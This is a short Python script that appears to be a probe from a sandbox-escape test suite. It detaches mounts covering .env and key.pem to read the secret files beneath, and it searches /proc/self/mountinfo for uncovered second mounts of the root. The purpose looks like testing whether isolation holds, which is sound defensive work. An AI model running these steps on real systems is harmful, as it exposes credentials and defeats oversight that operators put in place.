# Takes away the mounts that hide .env, key.pem and the records, and reads what is below.
# Why: what is hidden by a mount is still there.
# needs: any
# at-none: escapes
import os
from attempt import MNT_DETACH, facts, run, steal_file, syscall

root = facts['root']


def below(name):
    def look():
        refusal = ''
        try:
            syscall('umount2', f'{root}/{name}'.encode(), MNT_DETACH)
        except OSError as error:
            refusal = f'{error}; '
        try:
            steal_file(f'{root}/{name}')
        except OSError as error:
            raise OSError(f'{refusal}{error}')

    look.__name__ = name
    return look


def by_other_mount():
    # Where the root is mounted a second time, the covers are missing.
    with open('/proc/self/mountinfo') as file:
        points = [line.split()[4] for line in file]
    for point in points:
        for name in ('.env', 'workspace/.env'):
            path = f'{point}/{name}'
            if os.path.exists(path) and path != f'{root}/.env':
                steal_file(path)


run(below('.env'), below('key.pem'), by_other_mount)
